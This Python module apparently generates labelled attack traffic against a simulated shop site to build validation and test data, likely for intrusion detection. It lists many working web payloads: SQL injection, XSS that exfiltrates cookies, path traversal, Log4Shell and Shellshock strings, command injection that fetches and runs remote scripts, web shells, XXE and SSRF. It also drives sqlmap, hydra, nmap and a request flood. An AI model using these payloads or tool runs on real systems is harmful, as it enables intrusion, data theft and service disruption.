"""Attacks on the shop: hand-made requests trickling through a phase, and tools that come at once.

Validation and test share kinds but hardly a payload, and some kinds and tools only test has.
"""

from __future__ import annotations

import contextlib
import http.client
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, urlencode

from recording.labels import Truth
from recording.network import Crew, Host, Phase, seeded
from recording.web_clients import BROWSERS, SITE

ADDRESSES = [f"203.0.113.{n}" for n in range(11, 19)]  # hand-made; each tool has an address of its own
Request = tuple[str, str, dict[str, str], str]


def _get(target: str, **headers: str) -> Request:
    return "GET", target, {name.replace("_", "-"): value for name, value in headers.items()}, ""


def _post(target: str, body: str, referer: str = "", kind: str = "application/x-www-form-urlencoded") -> Request:
    return (
        "POST",
        target,
        {"Content-Type": kind} | ({"Referer": f"http://shop.example{referer}"} if referer else {}),
        body,
    )


def _login(user: str) -> Request:
    return _post("/login.php", urlencode({"user": user, "password": "x"}), "/login.php")


_ENTITY = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{}">]><r>&x;</r>'

TRICKLE: dict[str, dict[str, list[Request]]] = {
    "val": {
        "sql_injection": [
            *(
                _get(f"/product.php?id={quote(v)}")
                for v in ("1'", "1 OR 1=1", "1 AND 1=2", "-1 UNION SELECT 1,2,3,4,5")
            ),
            *(_get(f"/product.php?id={n}+ORDER+BY+{n}") for n in (3, 5, 6, 9)),
            _get("/product.php?id=1%20or%201=1--%20"),
            _get("/search.php?q=%27%20OR%20%271%27=%271"),
            _get("/search.php?q=x%27%20UNION%20SELECT%20name,password%20FROM%20users--"),
            _get("/products.php?category=lamps%27%20OR%20%27a%27=%27a&sort=price"),
        ],
        "cross_site_scripting": [
            _get("/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            _get("/search.php?q=%3CScRiPt%3Ealert(document.cookie)%3C/sCrIpT%3E"),
            _get("/search.php?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
            _get("/products.php?category=%3Cscript%20src=//203.0.113.11/x.js%3E%3C/script%3E"),
            _get("/contact.php?sent=%3Cscript%3Eprompt(1)%3C/script%3E"),
        ],
        "traversal": [
            *(_get(f"/download.php?file={'../' * n}etc/passwd") for n in (2, 4, 6)),
            _get("/download.php?file=../../../../etc/hosts"),
            _get("/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
            _get("/static/../../../../etc/passwd"),
            _get("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
            _get("/static/..%2f..%2f..%2fetc/shadow"),
        ],
        "header_injection": [
            _get("/", User_Agent="${jndi:ldap://203.0.113.11:1389/a}"),
            _get("/products.php", User_Agent="${jndi:rmi://203.0.113.11/o}"),
            _get("/search.php?q=oak", User_Agent="' OR SLEEP(5)-- "),
            _get("/", User_Agent="<script>alert(1)</script>"),
        ],
        "body_injection": [*map(_login, ("admin'--", "' OR '1'='1", "' OR 1=1 LIMIT 1--", "x' UNION SELECT 1,2,3--"))]
        * 2,
    },
    "test": {
        "sql_injection": [
            _get("/product.php?id=1%20AND%20(SELECT%20COUNT(*)%20FROM%20sqlite_master)%3E0"),
            _get("/product.php?id=0%20UNION%20SELECT%20id,name,password,4,5%20FROM%20users--"),
            _get("/product.php?id=1;DROP%20TABLE%20products"),
            _get("/product.php?id=1/**/UNION/**/SELECT/**/1,sql,3,4,5/**/FROM/**/sqlite_master"),
            _get("/product.php?id=1%27%20AND%20SLEEP(5)%23"),
            _get("/product.php?id=1)%3BSELECT%20pg_sleep(5)--"),
            _get("/product.php?id=1%2527%2520OR%25201%253D1"),
            _get("/search.php?q=%27;WAITFOR%20DELAY%20%270:0:5%27--"),
            _get("/search.php?q=admin%27%23"),
            _get("/products.php?category=rugs&page=1%20PROCEDURE%20ANALYSE(1)"),
            _get("/api/v1/products/7%27%20OR%201=1--"),
            _get("/products.php?sort=(CASE%20WHEN%201=1%20THEN%20price%20ELSE%20id%20END)"),
            *(
                _get(f"/product.php?id=(1)AND(unicode(substr((select(name)from(users)),{n},1))>77)")
                for n in range(1, 5)
            ),
        ],
        "cross_site_scripting": [
            _get("/search.php?q=%3Csvg/onload=alert%601%60%3E"),
            _get("/search.php?q=%3Ciframe%20src=javascript:alert(1)%3E"),
            _get("/search.php?q=%22%20autofocus%20onfocus=fetch(%27//203.0.113.12/%27%2bdocument.cookie)%20x=%22"),
            _get("/search.php?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
            _get("/account.php?order=%3Cbody%20onpageshow=alert(1)%3E"),
            _get("/contact.php?sent=%3Cdetails%20open%20ontoggle=alert(1)%3E"),
        ],
        "traversal": [
            _get("/download.php?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
            _get("/download.php?file=....//....//....//....//etc/passwd"),
            _get("/download.php?file=..%5c..%5c..%5cwindows%5cwin.ini"),
            _get("/download.php?file=/proc/self/environ"),
            _get("/download.php?file=../../../../var/lib/shop/shop.db"),
            _get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
            _get("/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd"),
            _get("/static/..%c0%af..%c0%af..%c0%afetc/passwd"),
        ],
        "file_inclusion": [
            _get("/download.php?file=php://filter/convert.base64-encode/resource=index.php"),
            _get("/index.php?page=php://input"),
            _get("/index.php?page=http://203.0.113.12/shell.php"),
            _get("/download.php?file=data://text/plain;base64,PD9waHAgZWNobyAxOyA/Pg=="),
            _get("/download.php?file=expect://id"),
        ],
        "command_injection": [
            _get("/download.php?file=terms.pdf;id"),
            _get("/download.php?file=terms.pdf%7Ccat%20/etc/passwd"),
            _get("/search.php?q=%60wget%20http://203.0.113.12/x.sh%60"),
            _get("/search.php?q=$(curl%20203.0.113.12/m%7Csh)"),
            _get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)"),
            _get("/api/v1/products?page=1%26%26ping%20-c%201%20203.0.113.12"),
        ],
        "template_injection": [
            _get("/search.php?q=%7B%7B7*7%7D%7D"),
            _get("/search.php?q=$%7B7*7%7D"),
            _get("/search.php?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
            _get("/contact.php?sent=%3C%25=%207*7%20%25%3E"),
            _get("/products.php?category=%23%7B7*7%7D"),
        ],
        "web_shell": [
            *(_get(f"/{name}?cmd=id") for name in ("shell.php", "uploads/c99.php", "static/cmd.php")),
            _get("/wp-content/plugins/hello/x.php?0=system&1=uname%20-a"),
            _get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            ("PUT", "/static/up.php", {}, "<?php system($_GET['c']); ?>"),
            _post("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "<?php echo 1; ?>"),
        ],
        "request_forgery": [
            _get("/download.php?file=http://169.254.169.254/latest/meta-data/"),
            _get("/login.php?next=//203.0.113.12/login.php"),
            _get("/search.php?q=gopher://127.0.0.1:6379/_FLUSHALL"),
            _get("http://203.0.113.12/probe"),
        ],
        "header_injection": [
            _get("/", Referer="${jndi:ldap://203.0.113.12:1389/b}"),
            _get("/", User_Agent="${${lower:j}ndi:${lower:l}dap://203.0.113.12/c}"),
            _get(
                "/health",
                User_Agent="${${::-j}${::-n}di:dns://203.0.113.12/d}",
                Referer="t('${jndi:ldap://203.0.113.12/e}')",
            ),
            _get("/", User_Agent="() { :; }; /bin/bash -c 'cat /etc/passwd'"),
            _get("/cgi-bin/status", User_Agent="() { ignored; }; echo; /usr/bin/id"),
            _get("/search.php?q=lamp", Referer='javascript:alert(1)//" onmouseover=alert(1)'),
            _get("/products.php", User_Agent="<?php system($_GET['c']); ?>"),
            _get("/", Referer="1' AND (SELECT 1 FROM(SELECT SLEEP(5))x)-- -"),
            _get("/", X_Forwarded_For="${jndi:ldap://203.0.113.12/f}"),  # never reaches the log
        ],
        "body_injection": [
            *map(_login, ("admin' AND 1=randomblob(9)--", "'; DROP TABLE users--", "customer1' OR 'x' LIKE 'x")),
            _post(
                "/contact.php",
                urlencode({"message": "<script>new Image().src='//203.0.113.12/'</script>"}),
                "/contact.php",
            ),
            _post("/cart.php", urlencode({"id": "1; SELECT load_extension('x')"}), "/product.php?id=1"),
            _post("/api/v1/cart", '{"id": {"$gt": ""}, "count": "1; cat /etc/passwd"}', kind="application/json"),
            _post("/api/v1/import", _ENTITY.format("file:///etc/passwd"), kind="application/xml"),
            _post("/api/v1/import", _ENTITY.format("http://203.0.113.12/x.dtd"), kind="application/xml"),
        ]
        * 2,
        "bad_protocol": [
            ("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "", {}, ""),
            ("CONNECT", "203.0.113.12:443", {}, ""),
            ("TRACE", "/", {}, ""),
            ("PROPFIND", "/", {"Depth": "1"}, ""),
            ("DEBUG", "/", {"Command": "stop-debug"}, ""),
            ("SSTP_DUPLEX_POST", "/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/", {}, ""),
        ],
        "scan": [
            *(
                _get(f"/{name}", User_Agent="Mozilla/5.0 zgrab/0.x")
                for name in (".env", ".git/config", "server-status")
            ),
            *(_get(f"/{name}") for name in ("wp-login.php", "phpmyadmin/", "backup.sql", "actuator/env", "xmlrpc.php")),
            *(
                _get(f"/{name}", User_Agent="python-requests/2.31.0")
                for name in ("admin/", ".aws/credentials", "HNAP1/")
            ),
        ],
    },
}
_WORDS = "admin api backup cgi-bin config console css db dev docs download images include js login logs mail old panel "
_WORDS += (
    "phpinfo private scripts secret server-status setup sql src static test tmp upload uploads user vendor web webmail"
)
_PASSWORDS = (
    "123456 password 12345678 qwerty letmein admin welcome monkey dragon football shadow master sunshine princess "
)
_PASSWORDS += "summer2024 iloveyou trustno1 superman batman harbour passw0rd abc123 111111 login"


def start(crew: Crew, attacker: Host, phase: Phase, truth: Truth, scratch: Path) -> None:
    """Let the attackers of one phase loose."""
    crew.start(attacker, _trickle, phase, truth)
    words, passwords = scratch / "words", scratch / "passwords"
    words.write_text("\n".join(_WORDS.split()))
    passwords.write_text("\n".join(_PASSWORDS.split()))
    url = f"http://{SITE}"
    # The moment, the kind and the command of each tool, which has a host of its own.
    tools: dict[str, list[tuple[float, str, list[str]]]] = {
        "val": [
            (0.25, "scan", ["gobuster", "dir", "-q", "-t", "4", "-u", url, "-w", str(words)]),
            (0.65, "flood", ["ab", "-q", "-n", "70", "-c", "10", f"{url}/"]),
        ],
        "test": [
            (0.2, "scan", ["nmap", "-n", "-Pn", "-sV", "-p", "80", "--script", _NMAP_SCRIPTS, SITE]),
            (0.4, "sql_injection", ["sqlmap", "--batch", "-u", f"{url}/product.php?id=7", "-p", "id", *_SQLMAP]),
            (0.55, "password_guessing", ["hydra", "-t", "4", "-l", "customer1", "-P", str(passwords), *_HYDRA]),
        ],
    }
    for moment, kind, command in tools[phase.name]:
        _tool(crew, phase, truth, kind, lambda m=moment, c=command: _at(phase, m, c))
    if phase.name == "val":
        _tool(crew, phase, truth, "password_guessing", lambda: _guess(phase))
    else:
        _tool(crew, phase, truth, "flood", lambda: _flood(phase))


_NMAP_SCRIPTS = "http-title,http-methods,http-headers,http-git,http-shellshock,http-security-headers,http-php-version"
_SQLMAP = ["--dbms", "sqlite", "--technique", "BU", "--level", "1", "--threads", "1", "--delay", "0.05", "--tables"]
_HYDRA = [SITE, "http-post-form", "/login.php:user=^USER^&password=^PASS^:Wrong name"]
_next_tool = iter(range(31, 61))


def _tool(crew: Crew, phase: Phase, truth: Truth, kind: str, work: Callable[[], None]) -> None:
    number = next(_next_tool)
    address = f"203.0.113.{number}"
    truth.mark_address(address, kind)
    crew.start(Host(f"tool{number}", [address]), work)


def _at(phase: Phase, moment: float, command: list[str]) -> None:
    phase.wait(moment)
    # A tool's exit code tells whether it found something; what it sent is in the log either way.
    subprocess.run(["timeout", "40", *command], stdin=subprocess.DEVNULL, capture_output=True)


def _trickle(phase: Phase, truth: Truth) -> None:
    """One hand-made request after the other, kinds shuffled, evenly through the phase."""
    rng = seeded(phase.name, "trickle")
    requests = [(kind, request) for kind, all_of in TRICKLE[phase.name].items() for request in all_of]
    rng.shuffle(requests)
    for number, (kind, (method, target, headers, body)) in enumerate(requests):
        phase.wait((number + 0.5) / len(requests) * 0.97)
        address = rng.choice(ADDRESSES)
        _send(address, truth.mark(address, kind), method, target, {"User-Agent": rng.choice(BROWSERS)} | headers, body)


def _send(address: str, port: int, method: str, target: str, headers: dict[str, str], body: str) -> None:
    """One request, byte for byte as written: an HTTP library would correct it."""
    sent = {"Host": "shop.example", "Accept": "*/*"} | headers
    if body:
        sent["Content-Length"] = str(len(body))
    head = f"{method} {target} HTTP/1.1\r\n" if target else method
    raw = head + "".join(f"{name}: {value}\r\n" for name, value in sent.items()) + f"\r\n{body}"
    with socket.create_connection((SITE, 80), 10, (address, port)) as connection:
        connection.sendall(raw.encode("latin-1"))
        # The connection is kept open, as browsers do: "Connection: close" would show in the answer's size.
        with contextlib.suppress(OSError, http.client.HTTPException):
            answer = http.client.HTTPResponse(connection, method=method)
            answer.begin()
            answer.read()


def _guess(phase: Phase) -> None:
    """Passwords tried slowly at the office's door: basic authentication, so the name tried is logged."""
    passwords = _PASSWORDS.split()
    for number, password in enumerate(passwords):
        phase.wait(0.1 + 0.8 * number / len(passwords))
        account = f"{('admin', 'maria', 'root')[number % 3]}:{password}"
        subprocess.run(["curl", "-s", "-u", account, f"http://{SITE}/admin/"], capture_output=True)


def _flood(phase: Phase) -> None:
    """A burst of plain requests that each look like a customer's; a fragment is never sent, it makes curl repeat."""
    phase.wait(0.75)
    burst = ["curl", "-s", "-Z", "--parallel-max", "12", "-A", BROWSERS[0], f"http://{SITE}/#[1-110]"]
    subprocess.run(burst, capture_output=True)
